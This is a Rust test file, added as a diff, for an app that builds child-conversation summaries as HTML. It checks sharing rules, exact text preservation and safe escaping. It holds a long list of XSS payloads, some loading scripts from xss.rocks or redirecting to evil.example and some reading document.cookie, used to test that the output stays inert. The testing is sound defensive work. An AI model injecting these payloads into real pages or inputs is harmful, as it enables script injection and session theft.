@@ -1,0 +1,1006 @@
+//! The summary: which entries a reader sees, and the downloaded HTML file, which must show
+//! every word exactly and can never run anything, whatever was typed on the tablet.
+
+use hear_me::core::summary_html::is_png_data_url;
+use hear_me::core::{
+    render_summary_html, Audience, Decision, EntryId, LeftOut, NewSession, Question, Session,
+    SessionId, Summary, SummaryContent, SummaryText, Tool, Voice, Words,
+};
+
+/// The English texts the UI would fill from its translation file.
+fn english() -> SummaryText {
+    SummaryText {
+        lang: "en".into(),
+        title: "Summary of a conversation with Mia".into(),
+        audience_line: "The worker's full record: only for the case file".into(),
+        child_label: "Child".into(),
+        age_label: "Age".into(),
+        date_label: "Date".into(),
+        place_label: "Place".into(),
+        present_label: "Present".into(),
+        tools_label: "Tool".into(),
+        worker_label: "Worker".into(),
+        three_houses: "Three Houses".into(),
+        worries_house: "House of Worries".into(),
+        good_things_house: "House of Good Things".into(),
+        dreams_house: "House of Dreams".into(),
+        empty_house: "Nothing was added to this house.".into(),
+        nothing_shared_here: "Nothing from this house is shared in this summary.".into(),
+        child_said_worker_wrote: "Child said, worker wrote".into(),
+        child_wrote: "Child wrote".into(),
+        child_drew: "Child drew".into(),
+        drawing_alt: "The child's drawing".into(),
+        picture_missing: "The picture could not be added.".into(),
+        sharing_heading: "Who may see what".into(),
+        decision_private: "Only my worker".into(),
+        decision_shared_with: "Shared with:".into(),
+        decision_none: "No decision yet".into(),
+        list_separator: ", ".into(),
+        mum: "Mum".into(),
+        dad: "Dad".into(),
+        family: "My family".into(),
+        teacher: "My teacher".into(),
+        court: "The judge / the court".into(),
+        meeting: "Everyone at the meeting".into(),
+        kept_private_line: "The child kept some entries private.".into(),
+        shared_only_with_others_line: "Some entries are shared with other people only.".into(),
+        undecided_line: "Some entries have no decision yet, so they are not shared.".into(),
+        worker_notes_heading: "Worker's notes".into(),
+        no_worker_notes: "The worker wrote no notes.".into(),
+    }
+}
+
+/// A valid PNG data URL (the PNG signature and a little more).
+const PNG: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE=";
+
+fn with_png(_: Question, _: EntryId) -> Option<String> {
+    Some(PNG.to_owned())
+}
+
+fn mia() -> Session {
+    let form = NewSession {
+        child_name: "Mia".into(),
+        age: "7".into(),
+        worker_name: "Sam".into(),
+        date: "2026-11-27".into(),
+    };
+    Session::start(&form, SessionId::new(1, 2), 1_000).unwrap()
+}
+
+fn words(text: &str, voice: Voice) -> Words {
+    Words {
+        text: text.into(),
+        voice,
+    }
+}
+
+/// The text of every entry a summary shows, house by house.
+fn shown(summary: &Summary) -> Vec<(Question, Vec<String>)> {
+    summary
+        .houses
+        .iter()
+        .map(|house| {
+            let entries = house
+                .entries
+                .iter()
+                .map(|entry| match &entry.content {
+                    SummaryContent::Words(words) => words.text.clone(),
+                    SummaryContent::Drawing { entry, .. } => format!("drawing {}", entry.0),
+                })
+                .collect();
+            (house.question, entries)
+        })
+        .collect()
+}
+
+/// A session with one entry for each kind of decision:
+/// worries: "private" (only my worker), "family" (shared with my family), a drawing for Mum;
+/// good things: "mum and teacher", "undecided";
+/// dreams: "oma" (a name the child gave), "everyone" (shared with all the pictured choices).
+fn decided() -> Session {
+    let mut session = mia();
+    let add = |session: &mut Session, question, text: &str, decision, at| {
+        let id = session.add_words(question, words(text, Voice::ChildWrote), at);
+        session.decide_sharing(question, id, decision, at + 1);
+    };
+    // Made in an order that is not the houses' order, as a child may choose.
+    add(
+        &mut session,
+        Question::Dreams,
+        "oma",
+        Decision::shared_with([Audience::Named("Oma".into())]),
+        2_000,
+    );
+    add(
+        &mut session,
+        Question::Worries,
+        "private",
+        Some(Decision::Private),
+        3_000,
+    );
+    add(
+        &mut session,
+        Question::Worries,
+        "family",
+        Decision::shared_with([Audience::Family]),
+        4_000,
+    );
+    let drawing = session.add_drawing(Question::Worries, 5_000);
+    session.decide_sharing(
+        Question::Worries,
+        drawing,
+        Decision::shared_with([Audience::Mum]),
+        5_001,
+    );
+    add(
+        &mut session,
+        Question::GoodThings,
+        "mum and teacher",
+        Decision::shared_with([Audience::Teacher, Audience::Mum]),
+        6_000,
+    );
+    add(&mut session, Question::GoodThings, "undecided", None, 7_000);
+    add(
+        &mut session,
+        Question::Dreams,
+        "everyone",
+        Decision::shared_with(Audience::PICTURED),
+        8_000,
+    );
+    session
+}
+
+// ---------------------------------------------------------------------------------------------
+// The summary model
+
+#[test]
+fn the_full_record_shows_every_entry_in_the_order_made_house_by_house() {
+    let summary = Summary::of(&decided(), None);
+    assert_eq!(
+        shown(&summary),
+        [
+            (
+                Question::Worries,
+                vec!["private".into(), "family".into(), "drawing 4".to_string()]
+            ),
+            (
+                Question::GoodThings,
+                vec!["mum and teacher".into(), "undecided".into()]
+            ),
+            (Question::Dreams, vec!["oma".into(), "everyone".into()]),
+        ]
+    );
+    assert_eq!(summary.undecided, 1);
+    assert_eq!(summary.left_out, LeftOut::default());
+    let worries = &summary.house(Question::Worries).unwrap().entries;
+    assert_eq!(worries[0].decision, Some(Decision::Private));
+    assert!(worries
+        .windows(2)
+        .all(|pair| pair[0].created_at <= pair[1].created_at));
+    assert_eq!(summary.child_name, "Mia");
+    assert_eq!(summary.age, Some(7));
+    assert_eq!(summary.worker, "Sam");
+    assert_eq!(summary.tools, [Tool::ThreeHouses]);
+}
+
+#[test]
+fn an_audience_sees_only_what_the_child_shared_with_exactly_them() {
+    let session = decided();
+    let for_mum = Summary::of(&session, Some(&Audience::Mum));
+    assert_eq!(
+        shown(&for_mum),
+        [
+            (Question::Worries, vec!["drawing 4".to_string()]),
+            (Question::GoodThings, vec!["mum and teacher".into()]),
+            (Question::Dreams, vec!["everyone".into()]),
+        ],
+        "'my family' does not include Mum"
+    );
+    assert_eq!(
+        for_mum.left_out,
+        LeftOut {
+            kept_private: 1,
+            shared_only_with_others: 2,
+            undecided: 1
+        }
+    );
+    assert_eq!(for_mum.left_out.total(), 4);
+
+    let for_oma = Summary::of(&session, Some(&Audience::Named("Oma".into())));
+    assert_eq!(
+        shown(&for_oma),
+        [
+            (Question::Worries, vec![]),
+            (Question::GoodThings, vec![]),
+            (Question::Dreams, vec!["oma".to_string()]),
+        ]
+    );
+    assert_eq!(
+        for_oma.left_out,
+        LeftOut {
+            kept_private: 1,
+            shared_only_with_others: 4,
+            undecided: 1
+        }
+    );
+
+    let for_family = Summary::of(&session, Some(&Audience::Family));
+    assert_eq!(
+        shown(&for_family)
+            .into_iter()
+            .flat_map(|(_, entries)| entries)
+            .collect::<Vec<_>>(),
+        ["family", "everyone"]
+    );
+    let for_court = Summary::of(&session, Some(&Audience::Court));
+    assert_eq!(
+        shown(&for_court)
+            .into_iter()
+            .flat_map(|(_, entries)| entries)
+            .collect::<Vec<_>>(),
+        ["everyone"]
+    );
+}
+
+#[test]
+fn nothing_is_shared_before_the_child_decides() {
+    let mut session = mia();
+    session.add_words(Question::Worries, words("a", Voice::ChildWrote), 2_000);
+    session.add_drawing(Question::Dreams, 2_100);
+    for audience in Audience::PICTURED {
+        let summary = Summary::of(&session, Some(&audience));
+        assert!(summary.houses.iter().all(|house| house.entries.is_empty()));
+        assert_eq!(
+            summary.left_out,
+            LeftOut {
+                kept_private: 0,
+                shared_only_with_others: 0,
+                undecided: 2
+            }
+        );
+        assert_eq!(summary.undecided, 2);
+    }
+    let full = Summary::of(&session, None);
+    assert_eq!(full.undecided, 2);
+    assert!(full
+        .houses
+        .iter()
+        .flat_map(|house| &house.entries)
+        .all(|entry| entry.decision.is_none()));
+}
+
+#[test]
+fn empty_houses_still_appear_for_every_reader() {
+    let session = mia();
+    for audience in [None, Some(Audience::Mum)] {
+        let summary = Summary::of(&session, audience.as_ref());
+        assert_eq!(
+            summary
+                .houses
+                .iter()
+                .map(|house| house.question)
+                .collect::<Vec<_>>(),
+            Question::ALL
+        );
+        let html = render_summary_html(&summary, &english(), &with_png);
+        for name in [
+            "House of Worries",
+            "House of Good Things",
+            "House of Dreams",
+        ] {
+            assert!(
+                html.contains(&format!("<h2 dir=\"auto\">{name}</h2>")),
+                "{name}"
+            );
+        }
+        let empty = match audience {
+            None => "Nothing was added to this house.",
+            Some(_) => "Nothing from this house is shared in this summary.",
+        };
+        assert_eq!(html.matches(empty).count(), 3);
+    }
+}
+
+#[test]
+fn the_header_and_notes_come_from_the_session() {
+    let mut session = mia();
+    session.set_place("Schule", 2_000);
+    session.set_present("Mia, Oma", 2_000);
+    session.set_worker_notes("Next: talk to Oma.", 2_000);
+    session.rename(Tool::ThreeHouses, Question::Worries, "Sturmhaus", 2_000);
+    let summary = Summary::of(&session, None);
+    assert_eq!(
+        (
+            summary.place.as_str(),
+            summary.present.as_str(),
+            summary.worker_notes.as_str(),
+            summary.date.as_str()
+        ),
+        ("Schule", "Mia, Oma", "Next: talk to Oma.", "2026-11-27")
+    );
+    assert_eq!(
+        summary
+            .house(Question::Worries)
+            .unwrap()
+            .own_name
+            .as_deref(),
+        Some("Sturmhaus")
+    );
+    assert_eq!(summary.house(Question::Dreams).unwrap().own_name, None);
+}
+
+// ---------------------------------------------------------------------------------------------
+// The HTML file
+
+#[test]
+fn the_file_is_one_complete_document_without_script_or_outside_urls() {
+    let mut session = decided();
+    session.set_worker_notes("Calm.", 9_000);
+    let html = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    assert!(
+        html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">")
+    );
+    assert!(html.contains(
+        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'\">"
+    ));
+    assert!(html.contains("<style>") && html.contains("@page"));
+    assert!(html.contains("break-inside: avoid"));
+    assert!(html.contains("white-space: pre-wrap"));
+    assert!(html.trim_end().ends_with("</html>"));
+    let lower = html.to_lowercase();
+    for forbidden in [
+        "<script", "http:", "https:", "//", "url(", "@import", "<link",
+    ] {
+        assert!(!lower.contains(forbidden), "{forbidden}");
+    }
+    assert_tags_are_only_ours(&html);
+    assert!(html.contains(&format!(
+        "<img src=\"{PNG}\" alt=\"The child&#39;s drawing\">"
+    )));
+}
+
+#[test]
+fn the_full_record_marks_who_said_and_wrote_and_each_decision() {
+    let mut session = decided();
+    session.add_words(
+        Question::Dreams,
+        words("said", Voice::ChildSaidWorkerWrote),
+        9_000,
+    );
+    let html = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    assert_eq!(html.matches("<p class=\"who\">Child wrote</p>").count(), 6);
+    assert_eq!(
+        html.matches("<p class=\"who\">Child said, worker wrote</p>")
+            .count(),
+        1
+    );
+    assert!(html.contains("<figcaption class=\"who\">Child drew</figcaption>"));
+    assert!(html.contains("<p class=\"decision\">Only my worker</p>"));
+    assert!(html.contains("<p class=\"decision\">Shared with: <bdi>My family</bdi></p>"));
+    assert!(html
+        .contains("<p class=\"decision\">Shared with: <bdi>Mum</bdi>, <bdi>My teacher</bdi></p>"));
+    assert!(html.contains("<p class=\"decision\">Shared with: <bdi>Oma</bdi></p>"));
+    assert_eq!(
+        html.matches("<p class=\"decision decision-none\">No decision yet</p>")
+            .count(),
+        2
+    );
+    assert!(html.contains("Some entries have no decision yet"));
+    assert!(!html.contains("The child kept some entries private."));
+    // The order made, within each house, and the houses in their fixed order.
+    assert_in_order(
+        &html,
+        &[
+            "House of Worries",
+            ">private<",
+            ">family<",
+            "Child drew",
+            "House of Good Things",
+            ">mum and teacher<",
+            ">undecided<",
+            "House of Dreams",
+            ">oma<",
+            ">everyone<",
+            ">said<",
+            "Who may see what",
+            "Worker&#39;s notes",
+        ],
+    );
+}
+
+#[test]
+fn a_summary_for_mum_leaves_out_and_only_counts_the_rest() {
+    let session = decided();
+    let mut text = english();
+    text.audience_line = "Summary for: Mum".into();
+    let html = render_summary_html(
+        &Summary::of(&session, Some(&Audience::Mum)),
+        &text,
+        &with_png,
+    );
+    assert!(html.contains("Summary for: Mum"));
+    for hidden in [">private<", ">family<", ">undecided<", ">oma<"] {
+        assert!(!html.contains(hidden), "{hidden} is left out");
+    }
+    for seen in [">mum and teacher<", ">everyone<", PNG] {
+        assert!(html.contains(seen), "{seen} is shown");
+    }
+    assert!(html.contains("The child kept some entries private."));
+    assert!(html.contains("Some entries are shared with other people only."));
+    assert!(html.contains("Some entries have no decision yet"));
+    // Who else may see an entry is not Mum's to read.
+    assert!(!html.contains("class=\"decision"));
+    assert!(!html.contains("My teacher"));
+}
+
+#[test]
+fn a_summary_where_nothing_is_left_out_still_says_nothing_was_kept_private() {
+    let mut session = mia();
+    let id = session.add_words(Question::Worries, words("x", Voice::ChildWrote), 2_000);
+    session.decide_sharing(
+        Question::Worries,
+        id,
+        Decision::shared_with([Audience::Dad]),
+        2_001,
+    );
+    let html = render_summary_html(
+        &Summary::of(&session, Some(&Audience::Dad)),
+        &english(),
+        &with_png,
+    );
+    assert!(html.contains("The child kept some entries private."));
+    assert!(!html.contains("other people only"));
+    assert!(!html.contains("no decision yet"));
+    // The worker's full record needs no sharing lines when all is decided.
+    let full = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    assert!(!full.contains("Who may see what"));
+}
+
+#[test]
+fn the_childs_words_are_kept_exactly_and_in_any_script() {
+    let texts = [
+        "  two  spaces inside and around  ",
+        "line one\nline two\n\n\ttabbed",
+        "Ich hab Angst 😢 👨‍👩‍👧",
+        "أريد أن أعيش مع جدتي",
+        "J'ai peur, ça fait mal",
+        "Eu tenho medo — e tu?",
+        "ZWJ\u{200D}and\u{00A0}nbsp",
+    ];
+    let mut session = mia();
+    for text in texts {
+        session.add_words(Question::Dreams, words(text, Voice::ChildWrote), 2_000);
+    }
+    let html = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    for text in texts {
+        let expected = format!(
+            "<blockquote class=\"child-words\" dir=\"auto\">{}</blockquote>",
+            reference_escape(text)
+        );
+        assert!(html.contains(&expected), "{text:?}");
+    }
+    assert!(html.contains(".child-words {") && html.contains("white-space: pre-wrap"));
+}
+
+#[test]
+fn the_childs_own_house_name_leads_and_the_usual_name_follows() {
+    let mut session = mia();
+    session.rename(Tool::ThreeHouses, Question::Worries, "Sturmhaus ⛈", 2_000);
+    let html = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    assert!(html.contains(
+        "<h2 dir=\"auto\">Sturmhaus ⛈</h2>\n<p class=\"usual-name\">House of Worries</p>"
+    ));
+    assert!(html.contains("<h2 dir=\"auto\">House of Dreams</h2>"));
+}
+
+#[test]
+fn only_png_data_urls_become_pictures() {
+    let mut session = mia();
+    session.add_drawing(Question::Worries, 2_000);
+    let refused = [
+        None,
+        Some(""),
+        Some("data:image/png;base64,"),
+        Some("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"),
+        Some("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+        Some("javascript:alert(1)"),
+        Some("https://example.org/x.png"),
+        Some("//example.org/x.png"),
+        Some("data:image/png;base64,iVBO\" onerror=\"alert(1)"),
+        Some("data:image/png;base64,iVBORw0KGgo=\"><script>alert(1)</script>"),
+        Some("data:image/png;base64,iVBO%3Cscript%3E"),
+        Some("data:image/png;base64,iVBORw0KGgo= "),
+        Some("data:image/png;charset=utf-8;base64,iVBORw0KGgo="),
+        Some("data:image/png,iVBORw0KGgo="),
+    ];
+    for picture in refused {
+        let pictures = move |_: Question, _: EntryId| picture.map(str::to_owned);
+        let html = render_summary_html(&Summary::of(&session, None), &english(), &pictures);
+        assert!(!html.contains("<img"), "{picture:?}");
+        assert!(
+            html.contains("<p class=\"missing\">The picture could not be added.</p>"),
+            "{picture:?}"
+        );
+        assert_tags_are_only_ours(&html);
+        assert!(!is_png_data_url(picture.unwrap_or_default()));
+    }
+    let html = render_summary_html(&Summary::of(&session, None), &english(), &with_png);
+    assert!(html.contains(&format!("<img src=\"{PNG}\"")));
+    assert!(!html.contains("class=\"missing\""));
+}
+
+#[test]
+fn pictures_are_asked_for_by_house_and_entry() {
+    let session = decided();
+    let asked = std::cell::RefCell::new(Vec::new());
+    let pictures = |question: Question, entry: EntryId| {
+        asked.borrow_mut().push((question, entry));
+        Some(PNG.to_owned())
+    };
+    render_summary_html(&Summary::of(&session, None), &english(), &pictures);
+    assert_eq!(*asked.borrow(), [(Question::Worries, EntryId(4))]);
+    asked.borrow_mut().clear();
+    render_summary_html(
+        &Summary::of(&session, Some(&Audience::Family)),
+        &english(),
+        &pictures,
+    );
+    assert!(
+        asked.borrow().is_empty(),
+        "a drawing left out is not even painted"
+    );
+}
+
+#[test]
+fn the_renderer_holds_no_words_of_its_own() {
+    // Session text without letters, and no labels: whatever letters are left would be
+    // English hard-coded in the renderer.
+    let mut session = mia();
+    session.child.name = "①".into();
+    session.worker = "②".into();
+    session.set_place("③", 2_000);
+    session.set_present("④", 2_000);
+    session.set_worker_notes("⑤", 2_000);
+    let id = session.add_words(Question::Worries, words("⑥", Voice::ChildWrote), 2_000);
+    session.add_words(
+        Question::Worries,
+        words("⑦", Voice::ChildSaidWorkerWrote),
+        2_000,
+    );
+    session.add_drawing(Question::Dreams, 2_000);
+    session.decide_sharing(
+        Question::Worries,
+        id,
+        Decision::shared_with([Audience::Mum, Audience::Named("⑧".into())]),
+        2_001,
+    );
+    for audience in [None, Some(Audience::Mum)] {
+        let html = render_summary_html(
+            &Summary::of(&session, audience.as_ref()),
+            &SummaryText::default(),
+            &|_, _| None,
+        );
+        let visible = visible_text(&html);
+        assert!(
+            !visible.chars().any(|c| c.is_alphabetic()),
+            "{audience:?}: {visible:?}"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Hostile text
+
+/// Text that tries to become markup or script, in the spirit of the OWASP XSS filter evasion
+/// cheat sheet, and a few of its newer relatives.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
+    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
+    "javascript:alert('XSS')",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<a onmouseover=alert(document.cookie)>xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+    "<SCRIPT SRC=//xss.rocks/.j>",
+    "<IMG SRC=\"`('XSS')\"`",
+    "<iframe src=http://xss.rocks/scriptlet.html <",
+    "\\\";alert('XSS');//",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<svg/onload=alert('XSS')>",
+    "<svg><script>alert(1)</script></svg>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    "<BR SIZE=\"&{alert('XSS')}\">",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
+    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
+    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
+    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
+    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
+    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
+    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
+    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
+    "<XSS STYLE=\"behavior: url(xss.htc);\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
+    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
+    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
+    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
+    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
+    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+    "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
+    "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS</A>",
+    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    " onerror=alert(1) ",
+    "'-alert(1)-'",
+    "\"-alert(1)-\"",
+    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</blockquote></li></ol></section><script>alert(1)</script>",
+    "</bdi><img src=x onerror=alert(1)>",
+    "<!--",
+    "-->",
+    "<!-- <script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "]]><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3C;script&#x3E;",
+    "&amp;lt;",
+    "&",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
+    "\u{2039}script\u{203A}",
+    "a\0<script>alert(1)</script>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<details open ontoggle=alert(1)>",
+    "<object data=\"javascript:alert(1)\">",
+    "<form><button formaction=javascript:alert(1)>X</button>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<img srcset=\"x 1x\" onerror=alert(1)>",
+    "<video><source onerror=\"alert(1)\">",
+    "<body onpageshow=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<base href=\"https://evil.example/\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    "<link rel=import href=https://evil.example>",
+    "<plaintext>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "javascript&colon;alert(1)",
+    "<a href=\"&#1;javascript:alert(1)\">x</a>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "\u{202E}gnp.exe",
+    "line one\r\nline two\r<script>",
+    "\u{2028}<script>\u{2029}",
+];
+
+/// HTML that shows `text` exactly, written apart from the app's own escaping.
+fn reference_escape(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+        .replace('\'', "&#39;")
+        .replace('\0', "\u{FFFD}")
+}
+
+/// A session with `text` in every field a person typed, and the summary texts the UI would
+/// fill from it; with `audience`, a summary for the name the child gave.
+fn everywhere(text: &str, for_named: bool) -> String {
+    let mut session = mia();
+    session.child.name = text.into();
+    session.worker = text.into();
+    session.set_place(text, 2_000);
+    session.set_present(text, 2_000);
+    session.set_worker_notes(text, 2_000);
+    let named = session
+        .add_named_audience(text, 2_000)
+        .expect("test texts are not blank");
+    for question in Question::ALL {
+        session.rename(Tool::ThreeHouses, question, text, 2_000);
+        for voice in [Voice::ChildWrote, Voice::ChildSaidWorkerWrote] {
+            let id = session.add_words(question, words(text, voice), 2_000);
+            session.decide_sharing(
+                question,
+                id,
+                Decision::shared_with([named.clone(), Audience::Mum]),
+                2_001,
+            );
+        }
+        let drawing = session.add_drawing(question, 2_000);
+        session.decide_sharing(
+            question,
+            drawing,
+            Decision::shared_with([named.clone()]),
+            2_001,
+        );
+    }
+    let private = session.add_words(Question::Worries, words(text, Voice::ChildWrote), 2_000);
+    session.decide_sharing(Question::Worries, private, Some(Decision::Private), 2_001);
+    let mut labels = english();
+    labels.title = format!("Summary of a conversation with {text}");
+    labels.audience_line = format!("Summary for: {text}");
+    let audience = for_named.then_some(named);
+    render_summary_html(
+        &Summary::of(&session, audience.as_ref()),
+        &labels,
+        &with_png,
+    )
+}
+
+#[test]
+fn hostile_text_stays_text_in_every_field() {
+    for &payload in HOSTILE {
+        for for_named in [false, true] {
+            let html = everywhere(payload, for_named);
+            let harmless = everywhere("x", for_named);
+            let lower = html.to_lowercase();
+            assert!(!lower.contains("<script"), "{payload:?}");
+            assert!(!lower.contains("<img src=x"), "{payload:?}");
+            assert!(
